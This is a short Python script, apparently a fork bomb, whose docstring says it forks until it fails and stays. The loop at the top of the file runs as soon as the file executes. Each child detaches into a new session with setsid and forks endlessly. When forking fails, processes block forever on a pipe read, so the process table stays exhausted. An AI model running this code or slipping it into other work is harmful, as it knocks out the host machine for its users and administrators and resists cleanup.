"""Fork until it fails, each child in a session of its own, and stay."""

import os


def wait_forever():
    read_fd, _write_fd = os.pipe()
    os.read(read_fd, 1)


def fork_until_it_fails():
    while True:
        try:
            os.fork()
        except OSError:
            wait_forever()


while True:
    try:
        pid = os.fork()
    except OSError:
        wait_forever()
        continue
    if pid == 0:
        os.setsid()
        fork_until_it_fails()
